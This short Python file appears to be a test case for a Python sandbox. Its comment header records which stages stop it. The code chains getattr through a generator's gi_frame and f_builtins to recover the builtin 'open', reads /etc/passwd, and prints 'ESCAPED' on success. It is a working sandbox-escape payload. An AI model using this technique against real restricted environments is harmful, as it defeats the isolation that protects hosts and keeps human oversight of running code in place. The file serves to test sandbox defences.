# tries: getattr accumulated
# class: reader
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import itertools

path = [(x for x in ()), "gi_frame", "f_builtins"]
use(list(itertools.accumulate(path, getattr))[-1]["open"])
